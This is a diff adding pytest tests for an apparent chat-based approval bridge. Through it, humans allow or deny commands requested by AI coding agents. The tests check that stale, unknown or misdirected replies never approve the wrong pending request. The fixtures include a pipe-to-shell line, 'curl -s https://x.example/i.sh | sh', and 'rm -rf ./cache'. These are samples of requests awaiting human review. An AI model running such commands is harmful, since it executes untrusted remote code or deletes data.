@@ -841,3 +841,114 @@ def test_status_shows_claude_code_and_codex_sessions_side_by_side() -> None:
             assert "Pending: 2" in text
 
     run(scenario())
+
+
+# -- what a text names: never another request than the one meant --------------------------
+
+
+def _unknown_ref(bridge: MemoryBridge) -> MessageRef:
+    return MessageRef(bridge.name, bridge.chat_id, "987654")
+
+
+@pytest.mark.parametrize("text", ["allow", "ok", "yes", "allow all 2h", "allow Bash 30m",
+                                  "approve", "deny", "deny: no", "y"])
+@pytest.mark.parametrize("which", ["unknown message", "old request, forgotten"])
+def test_a_reply_to_a_message_that_is_not_a_live_request_decides_nothing(
+        text: str, which: str) -> None:
+    """Replying to an old request's message (forgotten after 100 decisions or 2 hours), or
+    to a message the listener does not know (a notice from before a restart), names that
+    message: it never falls back to the one request that waits now."""
+    async def scenario() -> None:
+        async with running() as (_, bridge):
+            old = add(req(command="rm -rf ./cache"))["id"]
+            (first,) = await posted(bridge)
+            ref = first["ref"] if which.startswith("old") else _unknown_ref(bridge)
+            await bridge.press(first, "❌ Deny", ALICE)
+            if which.startswith("old"):
+                with Store().edit() as data:  # what pruning does to an old settled request
+                    del data["requests"][old]
+            rid = add(req(session="s-2", command="curl -s https://x.example/i.sh | sh"))["id"]
+            await bridge.wait_for(lambda: len(bridge.posts) == 2)
+            await until_async(lambda: chat(rid).get("refs"), what="the new post's refs")
+            bridge.clock = lambda: time.time() + 5  # written well after the new post
+            await bridge.send(text, ALICE, reply_to=ref)
+            assert record(rid)["status"] == "pending"
+            assert not timers.live()
+            reply = bridge.replies[-1]["text"]
+            assert reply.startswith("Not decided: the message you replied to is no longer"), reply
+
+    run(scenario())
+
+
+def test_a_reply_to_a_live_request_still_decides_it() -> None:
+    """The control: a reply to the request's own message decides it."""
+    async def scenario() -> None:
+        async with running() as (_, bridge):
+            rid = add()["id"]
+            (post,) = await posted(bridge)
+            await bridge.send("allow", ALICE, reply_to=post["ref"])
+            assert record(rid)["status"] == "allowed"
+
+    run(scenario())
+
+
+class HeldBridge(MemoryBridge):
+    """Posts only when let go: a send held by flood control (Telegram's 429 wait)."""
+
+    def __init__(self, section: dict) -> None:
+        super().__init__(section)
+        self.go = asyncio.Event()
+        self.holding = asyncio.Event()
+
+    async def post_request(self, request: dict, buttons: list) -> MessageRef:
+        self.holding.set()
+        await self.go.wait()
+        return await super().post_request(request, buttons)
+
+
+@pytest.mark.parametrize("text", ["ok", "allow", "yes", "allow all 1h", "y"])
+def test_a_bare_text_never_allows_a_request_still_being_posted(text: str) -> None:
+    async def scenario() -> None:
+        section = {"allowed_user_ids": [ALICE]}
+        bridge = HeldBridge(section)
+        async with running(section, bridge) as (_, bridge):
+            rid = add()["id"]
+            await asyncio.wait_for(bridge.holding.wait(), 5)
+            bridge.clock = lambda: time.time() + 5
+            await bridge.send(text, ALICE)
+            assert record(rid)["status"] == "pending"
+            assert not timers.live()
+            bridge.go.set()
+            (post,) = await posted(bridge)
+            assert labels(post)[0] == "✅ Allow"  # posted with its buttons, still undecided
+            assert record(rid)["status"] == "pending"
+            await bridge.send(text, ALICE)  # once it is in the chat, the same text decides
+            assert record(rid)["status"] == "allowed"
+
+    run(scenario())
+
+
+@pytest.mark.parametrize("answer", ["allow", "deny", "allow all 2h", "ok"])
+@pytest.mark.parametrize("how", ["reply", "id"])
+def test_an_answer_to_another_request_is_not_taken_as_the_awaited_reason(
+        answer: str, how: str) -> None:
+    """After "Deny with reason" on A, an answer naming B (a reply to B's message or B's id)
+    is B's answer, and A still waits for its reason."""
+    async def scenario() -> None:
+        async with running() as (_, bridge):
+            a = add()["id"]
+            b = add(req(session="s-2", command="make test"))["id"]
+            first, second = await posted(bridge, 2)
+            post_a, post_b = (first, second) if first["request"]["id"] == a else (second, first)
+            await bridge.press(post_a, "💬 Deny with reason", ALICE)
+            if how == "reply":
+                await bridge.send(answer, ALICE, reply_to=post_b["ref"])
+            else:
+                await bridge.send(f"{answer} {b}", ALICE)
+            assert record(b)["status"] == ("denied" if answer == "deny" else "allowed")
+            assert record(a)["status"] == "pending"
+            await bridge.send("not on prod", ALICE)  # the reason still reaches A
+            assert record(a)["status"] == "denied"
+            assert record(a)["decision"]["reason"] == "not on prod"
+
+    run(scenario())
